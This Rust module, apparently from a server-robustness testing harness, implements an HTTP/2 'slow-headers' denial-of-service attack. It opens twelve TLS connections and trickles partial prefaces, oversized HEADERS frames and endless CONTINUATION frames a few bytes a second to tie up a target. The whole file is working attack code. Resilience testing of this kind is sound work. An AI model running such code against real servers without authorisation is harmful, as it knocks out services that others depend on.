//! Slow beginnings: of the connection, of a frame, of a request's head; a byte or a field a second.

use super::{Attack, STAY, ends, source};
use crate::frames::{Frames, kind};
use crate::scene::{Seen, Stage};
use crate::stranger::tls;
use anyhow::Result;
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep};

pub(super) const ATTACK: Attack = Attack {
    name: "slow-headers",
    about: "a preface, a frame and a request's head, a few bytes a second, on 4 connections each",
    waits: true,
    run: |stage| Box::pin(run(stage)),
};

const OF_EACH: usize = 4;
const PAUSE: Duration = Duration::from_secs(1);
const FIELD: [u8; 4] = [0x10, 1, b'x', 0];

/// What is sent at once, and what then again and again.
fn ways() -> [(Vec<u8>, Vec<u8>); 3] {
    let opened = Frames::opening(&[]).0;
    let mut frame = Frames::opening(&[]);
    frame.head(8_192, kind::HEADERS, 0, 1);
    let head = Frames::opening(&[]).begun_request(1, &[0x83]).0;
    let more = Frames::default().frame(kind::CONTINUATION, 0, 1, &FIELD).0;
    [(opened[..12].to_vec(), Vec::new()), (frame.0, FIELD.to_vec()), (head, more)]
}

async fn run(stage: Stage) -> Result<Seen> {
    let scene = stage.coordinator().await?;
    let address = scene.target.address();
    scene
        .judge(async move {
            let (mut connections, begun) = (JoinSet::new(), Instant::now());
            for (first, again) in ways().into_iter().cycle().take(3 * OF_EACH) {
                let mut stream = tls(address, source(1)).await?;
                stream.write_all(&first).await?;
                connections.spawn(async move {
                    let (mut reads, mut writes) = tokio::io::split(stream);
                    let dribble = async {
                        while writes.write_all(&again).await.is_ok() && writes.flush().await.is_ok() {
                            sleep(PAUSE).await;
                        }
                    };
                    tokio::select! {
                        () = silence(&mut reads) => {}
                        () = dribble => {}
                    }
                });
            }
            Ok(ends(connections, begun, STAY).await)
        })
        .await
}

/// Reads until there is no more.
async fn silence(reads: &mut (impl AsyncRead + Unpin)) {
    let mut bytes = [0; 4_096];
    while reads.read(&mut bytes).await.is_ok_and(|length| length > 0) {}
}
